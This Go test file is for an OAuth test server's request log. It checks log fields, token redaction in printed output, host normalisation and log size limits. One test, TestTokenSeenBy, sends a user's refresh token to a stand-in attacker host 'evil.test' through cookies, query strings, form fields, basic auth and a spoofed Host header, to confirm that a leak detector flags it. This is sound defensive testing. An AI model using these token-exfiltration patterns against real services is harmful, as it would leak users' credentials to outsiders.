package testserver_test

import (
	"encoding/json"
	"fmt"
	"log/slog"
	"net/url"
	"strings"
	"testing"

	"github.com/freshet-go/freshet/internal/testserver"
)

func TestEntry(t *testing.T) {
	srv, c := newServer(t)
	tokens := srv.BeginSession("alice")
	form := refreshForm(tokens.RefreshToken)
	form.Set("resource", "https://api.test")
	req := tokenRequest(srv, form)
	req.Header.Set("X-Trace", "1")
	r, err := send(c, req)
	r = must(t, r, err)
	get(t, c, srv.APIURL("/me?q"), r.text("access_token"))
	all := srv.Log().Entries()
	e := all[0]
	for what, pair := range map[string][2]string{
		"endpoint":          {string(e.Endpoint), "token"},
		"scheme":            {e.Scheme, "https"},
		"host":              {e.Host, "auth.test"},
		"method":            {e.Method, "POST"},
		"path":              {e.Path, "/token"},
		"header":            {e.Header.Get("X-Trace"), "1"},
		"form":              {e.Form.Get("resource"), "https://api.test"},
		"account":           {e.Account, "alice"},
		"grant":             {e.Grant, "refresh_token"},
		"client":            {e.ClientID, "app"},
		"auth":              {string(e.ClientAuth), "none"},
		"refresh token":     {e.RefreshToken, tokens.RefreshToken},
		"new refresh token": {e.NewRefreshToken, r.text("refresh_token")},
		"new access token":  {e.NewAccessToken, r.text("access_token")},
		"query":             {all[1].Query, "q"},
		"access token":      {all[1].AccessToken, r.text("access_token")},
		"API account":       {all[1].Account, "alice"},
	} {
		want(t, what, pair[0], pair[1])
	}
	want(t, "granted", e.Granted, true)
	want(t, "status", e.Status, 200)
}

func TestPrintingShowsNoToken(t *testing.T) {
	srv, c := newServer(t)
	tokens := srv.BeginSession("alice")
	r := refresh(t, srv, c, tokens.RefreshToken)
	get(t, c, srv.APIURL("/?q="+tokens.AccessToken), r.text("access_token"))
	var out strings.Builder
	entries := srv.Log().Entries()
	for _, v := range []any{tokens, &tokens, entries, entries[0], &entries[0], struct{ E any }{entries[0]}} {
		for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q", "%d", "%x"} {
			fmt.Fprintf(&out, verb, v)
		}
		text, _ := json.Marshal(v)
		out.Write(text)
		slog.New(slog.NewTextHandler(&out, nil)).Info("x", "v", v)
		slog.New(slog.NewJSONHandler(&out, nil)).Info("x", "v", v)
	}
	for _, secret := range []string{tokens.AccessToken, tokens.RefreshToken, r.text("access_token"), r.text("refresh_token")} {
		if strings.Contains(out.String(), secret) || strings.Contains(out.String(), fmt.Sprintf("%x", secret)) {
			t.Errorf("a token is printed: %.2000s", out.String())
		}
	}
	print := testserver.Fingerprint(tokens.RefreshToken)
	want(t, "the fingerprint is printed", strings.Contains(out.String(), " rt="+print), true)
}

func TestTokenSeenBy(t *testing.T) {
	for name, ask := range map[string]func(*testserver.Server, string) error{
		"another header": func(srv *testserver.Server, token string) error {
			req := apiRequest("GET", "https://evil.test/", "", nil)
			req.Header.Set("Cookie", "a=b; token="+token)
			_, err := send(srv.Client(), req)
			return err
		},
		"query": func(srv *testserver.Server, token string) error {
			_, err := send(srv.Client(), apiRequest("GET", "https://evil.test/?t="+token, "", nil))
			return err
		},
		"form": func(srv *testserver.Server, token string) error {
			_, err := srv.Client().PostForm("https://evil.test/", url.Values{"t": {token}})
			return err
		},
		"basic": func(srv *testserver.Server, token string) error {
			req := apiRequest("GET", "https://evil.test/", "", nil)
			req.SetBasicAuth("x", token)
			_, err := send(srv.Client(), req)
			return err
		},
		"host header": func(srv *testserver.Server, token string) error {
			req := apiRequest("GET", "https://api.test/", token, nil)
			req.Host = "evil.test"
			_, err := send(srv.Client(), req)
			return err
		},
		"foreign token": func(srv *testserver.Server, _ string) error {
			_, err := send(srv.Client(), apiRequest("GET", "https://evil.test/", "somebody's", nil))
			return err
		},
		"plain http": func(srv *testserver.Server, token string) error {
			_, err := send(srv.Client(), apiRequest("GET", "http://EVIL.test/", token, nil))
			return err
		},
	} {
		t.Run(name, func(t *testing.T) {
			srv, c := newServer(t)
			tokens := srv.BeginSession("alice")
			get(t, c, "https://evil.test/", "")
			want(t, "seen before", srv.Log().TokenSeenBy("evil.test"), false)
			if err := ask(srv, tokens.RefreshToken); err != nil {
				t.Fatal(err)
			}
			want(t, "seen", srv.Log().TokenSeenBy("evil.test"), true)
			srv.Log().Reset()
			want(t, "seen after reset", srv.Log().TokenSeenBy("evil.test"), false)
		})
	}
}

func TestHostOfEntry(t *testing.T) {
	srv, c := newServer(t)
	for url, host := range map[string]string{
		"https://api.test/":      "https api.test",
		"https://API.test:443/":  "https api.test",
		"https://api.test:8443/": "https api.test:8443",
		"http://api.test:443/":   "http api.test:443",
		"http://api.test./":      "http api.test.",
		"http://127.0.0.1/":      "http 127.0.0.1",
		"https://[::1]/":         "https [::1]",
	} {
		get(t, c, url, "")
		want(t, url, last(srv).Scheme+" "+last(srv).Host, host)
	}
}

func TestLogIsBounded(t *testing.T) {
	srv, c := newServer(t)
	srv.Log().Keep(3)
	for i := range 8 {
		get(t, c, srv.APIURL(fmt.Sprint("/", i)), "")
	}
	var paths []string
	for _, e := range srv.Log().Entries() {
		paths = append(paths, e.Path)
	}
	want(t, "paths", fmt.Sprint(paths), "[/5 /6 /7]")
	want(t, "API requests", srv.Log().APIRequests(), 8)
	want(t, "unauthorized", srv.Log().Unauthorized(), 8)
	srv.Log().Reset()
	want(t, "entries", len(srv.Log().Entries()), 0)
	want(t, "API requests", srv.Log().APIRequests(), 0)
	srv.Log().Keep(0)
	get(t, c, srv.APIURL("/"), "")
	want(t, "entries of none", len(srv.Log().Entries()), 0)
}
